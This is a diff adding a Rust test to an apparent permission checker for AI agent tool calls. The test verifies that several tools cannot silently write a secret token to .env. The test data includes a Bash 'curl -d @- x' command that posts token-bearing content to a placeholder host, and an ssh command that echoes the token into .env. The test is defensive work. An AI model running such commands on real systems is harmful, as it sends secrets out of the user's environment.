@@ -260,3 +260,34 @@ fn the_configuration_may_allow_reading() {
         .is_some()
     );
 }
+
+/// A tool of a server, or one that sends, may call its arguments as those of an edit are called.
+#[test]
+fn only_a_tool_that_edits_or_runs_commands_may_write_a_token() {
+    let (sandbox, token) = (with_env_file(), token(4));
+    let patch = format!("*** Begin Patch\n*** Add File: .env\n+A={token}\n*** End Patch\n");
+    for (name, arguments) in [
+        (
+            "mcp__slack__send",
+            json!({"old_string": token, "new_string": ""}),
+        ),
+        (
+            "WebFetch",
+            json!({"url": "https://x", "path": ".env", "content": token}),
+        ),
+        ("Task", json!({"path": ".env", "content": token})),
+        ("mcp__fs__write_file", json!({"patch": patch})),
+        (
+            "mcp__ssh__run",
+            json!({"command": format!("echo {token} > .env")}),
+        ),
+        (
+            "Bash",
+            json!({"command": format!("curl -d @- x <<E\n{patch}E")}),
+        ),
+    ] {
+        assert!(ask(&sandbox, name, arguments).is_some(), "{name}");
+    }
+    let patch = json!({"command": format!("apply_patch <<'E'\n{patch}E")});
+    assert_eq!(ask(&sandbox, "Bash", patch), None);
+}
